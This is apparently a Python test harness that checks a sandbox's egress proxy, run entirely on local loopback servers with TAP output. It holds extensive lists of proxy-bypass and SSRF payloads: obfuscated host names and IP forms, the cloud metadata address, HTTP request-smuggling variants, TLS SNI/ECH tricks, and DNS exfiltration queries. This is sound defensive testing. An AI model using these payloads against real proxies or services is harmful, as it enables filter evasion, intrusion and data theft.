#!/usr/bin/env python3
"""Attacks the egress process from within a sandbox: hostile host names, DNS, HTTP and TLS; prints attacks, bypasses, controls.

Usage: attack.py INSIDE (the program built from inside.c). TAP; fails on any bypass, and on a control that does not work.

On this machine stand two servers with the same ports: 127.0.0.2 is `up.test`, which is allowed; 127.0.0.1 is the victim, of
which code inside must never reach a byte. All hostile names that a resolver could know lead to the victim. A bypass is: the
victim hears something; or the allowed server hears of another host than its own; or a name that is not allowed resolves.

The controls: each channel carries the allowed name to its server; and a careless proxy (below: it unquotes, cuts at NUL, takes
what stands behind @, asks the C library) given the same hostile name outside reaches the victim, so that the attack is one.

SPDX-License-Identifier: Apache-2.0
"""
import base64
import json
import os
import re
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
import urllib.parse

UP, VICTIM = "127.0.0.2", "127.0.0.1"
heard = []  # (who, port, bytes)
lock = threading.Lock()


# ---- the two servers ----

def guest(sock, who, port):
    sock.settimeout(3)
    try:
        got = sock.recv(65536)
        with lock:
            heard.append((who, port, got))
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: keep-alive\r\n\r\nok")
        while True:  # what a pipelined or smuggled request would be
            more = sock.recv(65536)
            if not more:
                break
            with lock:
                heard.append((who, port, more))
    except OSError:
        pass
    sock.close()


def server(address, who, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((address, port))
    s.listen(200)

    def run():
        while True:
            c, _ = s.accept()
            threading.Thread(target=guest, args=(c, who, s.getsockname()[1]), daemon=True).start()
    threading.Thread(target=run, daemon=True).start()
    return s.getsockname()[1]


def both(port):
    port = server(UP, "up", port)
    try:
        return server(VICTIM, "victim", port)
    except OSError:
        return 0


def ports():
    """An ephemeral one, and 80 and 443 where they can be had."""
    first = 0
    while not first:
        first = both(0)
    more = []
    for p in (80, 443):
        try:
            more.append(p if both(p) else 0)
        except OSError:
            more.append(0)
    return first, more[0], more[1]


# ---- what is sent; inside ----

def talk(a):
    """One attack, inside. The reply, or why there was none."""
    try:
        if a["by"] == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(1)
            s.sendto(a["send"][0], ("127.0.0.1", 53))
            return s.recv(4096)
        if a["by"] == "name":
            return socket.getaddrinfo(a["send"][0].decode("latin-1"), 80)[0][4][0].encode()
        to = ("127.0.0.1", 3128) if a["by"] == "proxy" else ("127.0.0.1", 53) if a["by"] == "dnstcp" else \
            (socket.gethostbyname("up.test"), a["port"]) if a["by"] == "up" else (a["by"], a["port"])
        s = socket.create_connection(to, 3)
        s.settimeout(1.2)
        reply = b""
        for part in a["send"]:
            s.sendall(part)
            try:
                reply += s.recv(4096)
            except socket.timeout:
                pass
        return reply
    except (OSError, UnicodeError) as e:
        return b"! " + str(e).encode()


def inside(path):
    attacks = json.load(open(path))
    for a in attacks:
        a["send"] = [base64.b64decode(x) for x in a["send"]]
    out = [None] * len(attacks)

    def work(first):
        for i in range(first, len(attacks), 16):
            out[i] = base64.b64encode(talk(attacks[i])).decode()
    threads = [threading.Thread(target=work, args=(i,)) for i in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    json.dump(out, open(path + ".out", "w"))


# ---- the attacks ----

def hostile_names(p):
    n = [b"evil.test", b"EVIL.TEST", b"evil.test.", b"up.test.evil.test", b"evil-up.test", b"evilup.test", b"www.up.test",
         b"evil.test\0.up.test", b"evil.test%00.up.test", b"evil.test%00up.test", b"up.test@evil.test", b"up.test%40evil.test",
         b"up.test:x@evil.test", b"evil.test#up.test", b"evil.test#@up.test", b"evil.test?up.test", b"evil.test?@up.test",
         b"evil.test/up.test", b"evil.test/@up.test", b"evil.test\\up.test", b"evil.test\\@up.test", b"up.test evil.test",
         b"evil.test up.test", b"evil.test\tup.test", b"evil.test,up.test", b"evil.test;up.test", b"evil.test|up.test",
         b"evil.test\r\nX: up.test", b"evil.test\nup.test", b"evil.test\rup.test", b"evil%2etest", b"%65vil.test", b"evil.test%20",
         b"evil.test%0d%0aHost:up.test", b"evil.test\x0b", b"evil.test\x7f", b"evil.test\xc2\xa0", b"evil\xe3\x80\x82test", b"evil\xef\xbc\x8etest",
         "\uff45\uff56\uff49\uff4c.test".encode(), "ev\u0131l.test".encode(), b"ev\xc2\xadil.test",
         b"127.0.0.1", b"127.1", b"127.0.1", b"2130706433", b"0x7f000001", b"0x7f.1", b"0X7F.0.0.1", b"0177.0.0.1", b"017700000001", b"127.0.0.1.",
         b"127.000.000.001", b"0127.0.0.1", b"127.0.0.01", b"4294967297", b"127.0.0.1%00", b"127.0.0.257", b"0.0.0.0", b"0", b"00000000000",
         b"127\xe3\x80\x820\xe3\x80\x820\xe3\x80\x821", "\u2460\u2461\u2466.0.0.1".encode(), "\uff11\uff12\uff17.0.0.1".encode(),
         b"[::1]", b"[::ffff:127.0.0.1]", b"[::ffff:7f00:1]", b"[::127.0.0.1]", b"[64:ff9b::7f00:1]", b"[2002:7f00:1::]", b"[::1%lo]",
         b"[::1%25lo]", b"[0:0:0:0:0:0:0:1]", b"[::]", b"[::1", b"::1", b"[127.0.0.1]", b"[up.test]@evil.test", b"localhost", b"localhost.", b"LOCALHOST",
         b"lOcAlHoSt", b"169.254.169.254", b"[fd00:ec2::254]", b"127.0.0.3", b"127.0.0.2.evil.test", b"*.test", b"*", b"", b".", b"..", b"-", b"up..test",
         b".up.test", b"up.test.", b"up_test", b"a" * 64 + b".test", b"a." * 126 + b"test", b"a" * 5000, b"xn--evil.test", b"ab--cd.test",
         b"http://evil.test", b"//evil.test", b"evil.test:%d" % p, b"up.test:%d:evil.test" % p]
    return n


def dns(name, qtype=1, flags=0x0100, count=1, more=b""):
    labels = b"".join(bytes([len(x)]) + x for x in name.split(b".") if 0 < len(x) < 64) if isinstance(name, bytes) else name[0]
    return b"\x12\x34" + flags.to_bytes(2, "big") + count.to_bytes(2, "big") + bytes(6) + labels + b"\0" + \
        qtype.to_bytes(2, "big") + b"\0\1" + more


def greeting(name):
    """What a TLS client says first."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def with_encrypted_hello(hello):
    """The same with an extension 0xfe0d (Encrypted Client Hello), of which the name within would be another."""
    body = bytearray(hello[9:])
    at = 34
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at:at + 2], "big")
    at += 1 + body[at]
    n = int.from_bytes(body[at:at + 2], "big")
    body[at:at + 2] = (n + 12).to_bytes(2, "big")
    body += b"\xfe\x0d\0\x08evil.tst"
    return hello[:3] + (len(body) + 4).to_bytes(2, "big") + b"\1" + len(body).to_bytes(3, "big") + bytes(body)


def attacks(p, http, tls):
    a = []

    def add(kind, name, by, *send, port=0, host=None):
        a.append({"kind": kind, "name": name, "by": by, "send": list(send), "port": port, "host": host})
    for n in hostile_names(p):
        h = n if b"%d" % p in n else n + b":%d" % p
        shown = n[:40].decode("latin-1").encode("unicode_escape").decode()
        add("host", "CONNECT " + shown, "proxy", b"CONNECT " + h + b" HTTP/1.1\r\nHost: " + h + b"\r\n\r\n", b"GET /evil HTTP/1.1\r\n\r\n", host=n)
        add("host", "GET http://" + shown, "proxy", b"GET http://" + h + b"/evil HTTP/1.1\r\nHost: " + h + b"\r\n\r\n", host=n)
        add("host", "GET http://%s, Host: up.test" % shown, "proxy",
            b"GET http://" + h + b"/evil HTTP/1.1\r\nHost: up.test:%d\r\n\r\n" % p, host=n)
        add("host", "GET /, Host: " + shown, "proxy", b"GET /evil HTTP/1.1\r\nHost: " + h + b"\r\n\r\n", host=n)
        if b"\0" not in n:
            add("host", "resolve " + shown, "name", n, host=n)
    up = b"up.test:%d" % p
    get = b"GET http://" + up + b"/ HTTP/1.1\r\nHost: " + up + b"\r\n"
    evil = b"GET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    for name, send in {
            "two Hosts": get + b"Host: evil.test\r\n\r\n",
            "two Hosts, the first another": b"GET http://" + up + b"/ HTTP/1.1\r\nHost: evil.test\r\nHost: " + up + b"\r\n\r\n",
            "a folded Host": b"GET http://" + up + b"/ HTTP/1.1\r\nHost: " + up + b"\r\n evil.test\r\n\r\n",
            "a blank before the colon": get + b"Host : evil.test\r\n\r\n",
            "a Host behind a bare LF": get + b"X: y\nHost: evil.test\r\n\r\n",
            "a Host behind a bare CR": get + b"X: y\rHost: evil.test\r\n\r\n",
            "a Host behind NUL": get + b"X: y\0\r\nHost: evil.test\r\n\r\n",
            "a second request behind the first": get + b"\r\n" + evil,
            "a second request as a body too long": get + b"Content-Length: 0\r\n\r\n" + evil,
            "length and chunks": get + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + evil,
            "chunks spelled oddly": get + b"Transfer-Encoding: xchunked\r\n\r\n" + evil,
            "chunks behind a tab": get + b"Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + evil,
            "two lengths": get + b"Content-Length: 0\r\nContent-Length: 60\r\n\r\n" + evil,
            "a length with a sign": get + b"Content-Length: +0\r\n\r\n" + evil,
            "an upgrade": get + b"Connection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAAA\r\n\r\n" + evil,
            "Connection names Host": get + b"Connection: host\r\n\r\n" + evil,
            "a user in the target": b"GET http://up.test@evil.test:%d/ HTTP/1.1\r\nHost: up.test:%d\r\n\r\n" % (p, p),
            "a target with a backslash": b"GET http://up.test:%d\\@evil.test/ HTTP/1.1\r\nHost: up.test:%d\r\n\r\n" % (p, p),
            "https in a target": b"GET https://evil.test:%d/evil HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (p, p),
            "ftp in a target": b"GET ftp://evil.test:%d/evil HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (p, p),
            "HTTP/0.9": b"GET http://evil.test:%d/evil\r\n\r\n" % p, "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            "a TRACE": b"TRACE http://evil.test:%d/evil HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (p, p),
            "a method in small letters": b"connect evil.test:%d HTTP/1.1\r\n\r\n" % p,
            "CONNECT without a port": b"CONNECT evil.test HTTP/1.1\r\n\r\n", "CONNECT to a URL": b"CONNECT http://evil.test:%d/ HTTP/1.1\r\n\r\n" % p,
            "CONNECT, Host another": b"CONNECT evil.test:%d HTTP/1.1\r\nHost: up.test:%d\r\n\r\n" % (p, p),
            "SOCKS 5": b"\5\1\0", "SOCKS 4": b"\4\1" + p.to_bytes(2, "big") + b"\x7f\0\0\1\0", "PROXY protocol": b"PROXY TCP4 1.1.1.1 127.0.0.1 1 %d\r\n" % p + evil,
            "another port of the allowed host": b"CONNECT up.test:%d HTTP/1.1\r\n\r\n" % (p + 1 if p < 65535 else p - 1),
            "a registry's port by the proxy": b"GET http://127.0.0.1:3136/ HTTP/1.1\r\nHost: 127.0.0.1:3136\r\n\r\n",
    }.items():
        add("http", name, "proxy", send, evil)
    connect = b"CONNECT " + up + b" HTTP/1.1\r\n\r\n"
    hello = greeting("up.test")
    add("tls", "a tunnel, TLS for another name", "proxy", connect, greeting("evil.test"))
    add("tls", "a tunnel, an encrypted greeting", "proxy", connect, with_encrypted_hello(hello))
    add("tls", "a tunnel, TLS without a name", "proxy", connect, greeting(None))
    add("tls", "a tunnel, TLS for another name in pieces", "proxy", connect, greeting("evil.test")[:60], greeting("evil.test")[60:])
    add("tls", "an allowed address, TLS for another name", "up", greeting("evil.test"), port=p)
    if http:
        tunnel = b"CONNECT up.test:80 HTTP/1.1\r\n\r\n"
        for name, send in {"another Host": evil, "a whole target of another": b"GET http://evil.test/evil HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                           "a second request": b"GET / HTTP/1.1\r\nHost: up.test\r\n\r\n" + evil, "no HTTP": b"evil\r\n\r\n",
                           "TLS": greeting("evil.test"), "HTTP/1.0 without a Host": b"GET /evil HTTP/1.0\r\n\r\n"}.items():
            add("http", "port 80, %s" % name, "up", send, evil, port=80)
            add("http", "a tunnel to port 80, %s" % name, "proxy", tunnel, send, evil)
    if tls:
        tunnel = b"CONNECT up.test:443 HTTP/1.1\r\n\r\n"
        for name, send in {"TLS for another name": greeting("evil.test"), "TLS without a name": greeting(None), "plain HTTP": evil,
                           "an encrypted greeting": with_encrypted_hello(hello), "SSH": b"SSH-2.0-evil\r\n"}.items():
            add("tls", "port 443, %s" % name, "up", send, port=443)
            add("tls", "a tunnel to port 443, %s" % name, "proxy", tunnel, send)
    for i, address in enumerate(["127.77.0.200", "127.77.255.254", "127.0.0.3", "10.0.0.1", "169.254.169.254", "8.8.8.8", "127.77.0.0"]):
        for port in (80, 443, p):
            add("address", "%s:%d straight away" % (address, port), address, evil, port=port)
    for name, send in {"another name": dns(b"evil.test"), "capitals": dns(b"EVIL.test"), "a name beneath": dns(b"evil.up.test"),
                       "data in a name": dns(b"c2VjcmV0.evil.test"), "a dot within a label": dns((b"\x0eup.test\0evil.x",)), "a label up.test": dns((b"\x07up.test",)),
                       "NUL within a label": dns((b"\x02up\x05tes\0t",)), "TXT": dns(b"evil.test", 16), "MX": dns(b"evil.test", 15), "ANY": dns(b"evil.test", 255),
                       "AXFR": dns(b"test", 252), "HTTPS": dns(b"evil.test", 65), "SRV": dns(b"_x._tcp.evil.test", 33), "two questions":
                       dns(b"up.test", count=2, more=b"\4evil\4test\0\0\1\0\1"), "a pointer": dns((b"\2up\xc0\x0c",)), "an update": dns(b"evil.test", flags=0x2800),
                       "a long label": dns((b"\xff" + b"a" * 255,)), "cut": dns(b"evil.test")[:-3], "an answer": dns(b"evil.test", flags=0x8180)}.items():
        add("dns", name, "udp", send)
        add("dns", name + ", by TCP", "dnstcp", len(send).to_bytes(2, "big") + send)
    return a


def controls(p, http, tls):
    up = b"up.test:%d" % p
    c = [("the proxy", "proxy", [b"GET http://" + up + b"/c1 HTTP/1.1\r\nHost: " + up + b"\r\n\r\n"], 0, b"c1"),
         ("a tunnel", "proxy", [b"CONNECT " + up + b" HTTP/1.1\r\n\r\n", b"GET /c2 HTTP/1.1\r\n\r\n"], 0, b"c2"),
         ("a tunnel with TLS", "proxy", [b"CONNECT " + up + b" HTTP/1.1\r\n\r\n", greeting("up.test")], 0, b"\x16\x03"),
         ("an address of ours", "up", [b"GET /c3 HTTP/1.1\r\n\r\n"], p, b"c3")]
    if http:
        c.append(("port 80", "up", [b"GET /c4 HTTP/1.1\r\nHost: up.test\r\n\r\n"], 80, b"c4"))
    if tls:
        c.append(("port 443", "up", [greeting("up.test")], 443, b"\x16\x03"))
    return [{"name": n, "by": by, "send": s, "port": port, "want": want} for n, by, s, port, want in c] + [
        {"name": "DNS", "by": "udp", "send": [dns(b"up.test")], "port": 0, "want": b"\x7f\x4d"},
        {"name": "a name", "by": "name", "send": [b"up.test"], "port": 0, "want": b"127.77."}]


# ---- a careless proxy ----

def careless(host, p):
    """Whether a proxy that reads the host as many do would reach the victim."""
    h = urllib.parse.unquote_to_bytes(host).split(b"\0")[0]
    h = unicodedata.normalize("NFKC", h.decode("utf-8", "ignore").replace("\u3002", ".").replace("\u00ad", ""))
    h = re.split(r"[/?#\\\s,;|\x7f]", re.sub(r"^(http:)?//", "", h))[0].split("@")[-1]
    h = re.sub(r"%.*|:\d+.*$", "", h) if h.startswith("[") else h.split(":")[0] if h.count(":") == 1 else h
    h = h.strip("[]").rstrip(".").split("%")[0].lower()
    if not h:
        return False
    try:
        address = VICTIM if h.endswith("evil.test") or h in ("evil-up.test", "evilup.test", "www.up.test") else \
            socket.getaddrinfo(h, p, type=socket.SOCK_STREAM)[0][4][0]
        c = socket.create_connection((address.replace("::ffff:", ""), p), 1)
    except (OSError, UnicodeError):
        return False
    return c.getpeername()[0] == VICTIM


# ---- the whole ----

def send_all(program, tree, log, p, batch):
    path = os.path.join(tree, "attacks.json")
    shutil.copy(os.path.abspath(__file__), os.path.join(tree, "attack.py"))
    json.dump([{"by": x["by"], "port": x["port"], "send": [base64.b64encode(s).decode() for s in x["send"]]} for x in batch], open(path, "w"))
    os.chmod(path, 0o644)
    hosts = [(n, VICTIM) for n in ("evil.test", "evil-up.test", "evilup.test", "www.up.test", "up.test.evil.test", "127.0.0.2.evil.test",
                                   "localhost", "xn--evil.test", "evil.up.test")] + [("up.test", UP)]
    argv = [program, tree, log]
    for n, address in hosts:
        argv += ["--host", "%s %s" % (n, address)]
    for rule in ("up.test:%d" % p, "up.test:80", "up.test:443", "%s:*" % UP):
        argv += ["--allow", rule]
    done = subprocess.run(argv + ["--", "/usr/bin/python3", "attack.py", "--inside", "attacks.json"], stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=900)
    if not os.path.exists(path + ".out"):
        sys.exit("Bail out! nothing ran inside: %s" % (done.stdout + done.stderr)[-2000:].decode("utf-8", "replace"))
    out = [base64.b64decode(x) for x in json.load(open(path + ".out"))]
    os.remove(path + ".out")
    return out


def answers(reply):
    """How many addresses a DNS reply has."""
    return int.from_bytes(reply[6:8], "big") if len(reply) >= 12 and not reply.startswith(b"! ") else 0


def is_bypass(a, reply):
    if a["by"] in ("udp", "dnstcp"):
        return answers(reply[2:] if a["by"] == "dnstcp" else reply) > 0
    if a["by"] == "name":  # loopback's own names are files, inside; a dot at the end is the resolver's, and the same name
        return reply.startswith(b"127.77.") and a["host"] != b"up.test."
    # Some requests are rightly for the allowed host, with another behind them: of that, the servers must not hear.
    return a["kind"] != "http" and b"\r\n\r\nok" in reply


def main():
    program = os.path.abspath(sys.argv[1])
    base = tempfile.mkdtemp(prefix="egress-attack.")
    os.chmod(base, 0o755)
    tree = os.path.join(base, "tree")
    os.mkdir(tree, 0o777)
    os.chmod(tree, 0o777)
    p, http, tls = ports()
    if not http or not tls:
        print("# ports 80 and 443 of 127.0.0.1 and 127.0.0.2 cannot be had here (not root?): attacks on them are left out")
    bad = 0
    batch, good = attacks(p, http, tls), controls(p, http, tls)
    tests = []
    for g, reply in zip(good, send_all(program, tree, base + "/log", p, good)):
        time.sleep(0.05)
        with lock:
            works = any(who == "up" and g["want"] in got for who, _, got in heard) if g["want"][:2] != b"\x7f\x4d" and g["by"] != "name" \
                else g["want"] in reply
        tests.append((works, "control: %s carries the allowed name" % g["name"], reply))
    with lock:
        heard.clear()
    replies = send_all(program, tree, base + "/log", p, batch)
    time.sleep(0.5)
    for kind in ("host", "http", "tls", "address", "dns"):
        for a, reply in zip(batch, replies):
            if a["kind"] == kind:
                tests.append((not is_bypass(a, reply), "%s: %s" % (kind, a["name"]), reply))
    with lock:
        at_victim = [got for who, _, got in heard if who == "victim"]
        wrong = [got for who, _, got in heard if who == "up" and b"evil" in got]
    tests.append((not at_victim, "the victim heard nothing", b" ".join(at_victim)))
    tests.append((not wrong, "the allowed server heard of no other host", b" ".join(wrong)))
    names = sorted(set(a["host"] for a in batch if a["host"] is not None))
    meant = [n for n in names if careless(n, p)]
    tests.append((len(meant) >= 45, "control: a careless proxy reaches the victim by %d of the %d hostile names" % (len(meant), len(names)), b""))
    for i, (good_one, name, reply) in enumerate(tests):
        print("%sok %d - %s" % ("" if good_one else "not ", i + 1, name))
        if not good_one:
            bad += 1
            print("#   %r" % reply[:300])
    print("1..%d" % len(tests))
    bypasses = sum(is_bypass(a, r) for a, r in zip(batch, replies)) + len(at_victim) + len(wrong)
    print("# attacks: %d (hostile host names: %d, by 5 ways; HTTP: %d; TLS: %d; addresses: %d; DNS: %d)  bypasses: %d  controls: %d of %d" % (
        len(batch), len(names), *(sum(a["kind"] == k for a in batch) for k in ("http", "tls", "address", "dns")), bypasses,
        sum(t[0] for t in tests if t[1].startswith("control")), len(good) + 1))
    shutil.rmtree(base, ignore_errors=True)
    return 1 if bad else 0


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--inside":
        inside(sys.argv[2])
    elif len(sys.argv) == 2:
        sys.exit(main())
    else:
        sys.exit(__doc__)
